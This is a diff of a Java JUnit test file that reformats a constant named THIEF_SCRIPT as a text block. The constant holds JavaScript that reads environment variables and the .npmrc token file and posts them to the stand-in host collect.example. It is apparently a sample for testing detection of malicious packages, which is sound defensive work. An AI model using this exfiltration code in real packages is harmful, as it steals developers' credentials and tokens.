@@ -16,8 +16,10 @@ import org.junit.jupiter.params.provider.ValueSource;
 /// are installed, and whom they ask. Nothing here is ever run.
 final class CarriedPackageTest {
   private static final String THIEF_SCRIPT =
-      "const k = process.env; const t = fs.readFileSync(h + '/.npmrc');\n"
-          + "https.request({host: 'collect.example'}).end(JSON.stringify([k, t]));\n";
+      """
+      const k = process.env; const t = fs.readFileSync(h + '/.npmrc');
+      https.request({host: 'collect.example'}).end(JSON.stringify([k, t]));
+      """;
 
   @ParameterizedTest
   @CsvSource(
